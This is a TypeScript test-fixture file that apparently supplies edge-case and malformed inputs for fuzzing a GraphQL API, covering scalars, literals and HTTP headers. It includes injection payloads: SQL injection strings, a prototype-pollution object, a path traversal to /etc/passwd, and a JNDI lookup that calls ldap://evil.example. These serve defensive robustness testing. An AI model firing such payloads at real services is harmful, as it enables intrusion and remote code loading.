/** Well-formed values of the right type that programs stumble over, and some good ones. Scalars that are not here are given text. */
export const SCALARS: Readonly<Record<string, readonly unknown[]>> = {
  Int: [1, 2, 3, 5, 20, 0, -1, 6, 7, 200, 201, 500, 2_147_483_647, -2_147_483_648],
  Float: [0, -0.5, 1e300],
  Boolean: [true, false],
  String: ['a', 'hospital', '瑞金', '', ' ', '\0', '\ud83d', '%', '__proto__', "'; drop table entities; --", 'fundSize', 'WyJsaXN0IiwxXQ', 'W251bGxd', '-'],
  ID: ['institution/ruijin-hospital', 'institution/zhangjiang-group', 'source/nobody', 'constructor', '', '\0', 17, 'x'.repeat(700)],
  PartialDate: ['2017', '2023-05', '2023-05-24', 2017, '9999-12-31', '1000', '2023-02-29', '', 'yesterday'],
};

/** An object with own keys that plain code mistakes for the language's. */
const PROTOTYPES: unknown = JSON.parse('{"__proto__": {"isAdmin": true}, "constructor": {"prototype": null}, "hasOwnProperty": 1, "toString": "x"}');
const nested = (depth: number, wrap: (inner: unknown) => unknown): unknown => (depth === 0 ? 1 : wrap(nested(depth - 1, wrap)));

/** Of no type in particular: where they stand they are mostly wrong. */
export const HOSTILE: readonly unknown[] = [
  ...[null, true, -0, 1.5, 2_147_483_648, -2_147_483_649, 2 ** 53 + 2, 1e308, 5e-324],
  ...[
    '',
    '\0',
    '\ud83d',
    '\udc00\ud83d',
    '\u202e\u200b\ufeff',
    '__proto__',
    'constructor',
    'toString',
    'x'.repeat(10_000),
    '𠀀'.repeat(300),
    '$'.concat('{1+1}'),
    '../../etc/passwd',
  ],
  ...[[], {}, [[]], [null], [[[]]], { '': '' }, PROTOTYPES, { ids: ['a'], where: {} }, { ids: null }, Array(600).fill('fund/a')],
  ...[nested(30, (inner) => [inner]), nested(30, (inner) => ({ not: inner })), nested(7, (not) => ({ not })), { and: Array(60).fill({ name: 'a' }) }],
];

/** Only as literals: JSON has none of them. */
export const HOSTILE_LITERALS: readonly string[] = [
  ...['99999999999999999999999999', '1e999', '-1e999', '0.1e-999', 'NaN', 'Infinity', '007', '1__0', '.5', '0x10', 'NOPE', '__proto__'],
  ...[
    '"\\u0000"',
    '"\\ud83d"',
    '"\\u{110000}"',
    '"\\x41"',
    '"""a\n"""',
    '"""\\""""',
    '"a\nb"',
    "'a'",
    '$nobody',
    '{ a: 1, a: 2 }',
    '[[[[[[1]]]]]]',
    '{ __proto__: 1 }',
  ],
];

export const HEADERS: Readonly<Record<string, readonly string[]>> = {
  'content-type': [
    ...[
      'application/json; charset=utf-16',
      'application/json;;;',
      'APPLICATION/JSON',
      'application/graphql+json',
      'text/plain',
      'application/x-www-form-urlencoded',
    ],
    ...['multipart/form-data; boundary=', '*/*', 'application/json, application/json', 'x'.repeat(3_000), '%00', 'application/json; charset="'],
  ],
  accept: [
    '*/*',
    'text/html',
    'application/xml',
    'application/graphql-response+json',
    'multipart/mixed; deferSpec=20220824',
    ';q=',
    'a/b;q=2',
    'x'.repeat(3_000),
    ','.repeat(500),
  ],
  'accept-language': ['zh', 'zh-Hans-CN;q=0.9, en;q=x', '*', ';;;', 'x'.repeat(3_000), 'en;q=1e999'],
  'accept-encoding': ['gzip', 'br;q=0, gzip', '*', 'rubbish', ',,,;q=='],
  'content-encoding': ['gzip', 'br', 'identity', 'rubbish'],
  origin: ['null', 'https://evil.example', 'javascript:alert(1)', 'x'.repeat(3_000)],
  'x-forwarded-for': ['127.0.0.1', '::1', "1.2.3.4, ' OR 1=1", 'x'.repeat(2_000)],
  'x-request-id': ['../../log', '$'.concat('{jndi:ldap://evil.example/a}'), 'x'.repeat(2_000)],
  'if-none-match': ['*', '"x"', 'W/', 'x'.repeat(2_000)],
  'apollo-require-preflight': ['1'],
  cookie: ['__proto__=1; a=b; =;'],
  authorization: ['Bearer x', 'Basic !!!'],
  expect: ['100-continue'],
  range: ['bytes=0-0', 'bytes=9999999999999-'],
};
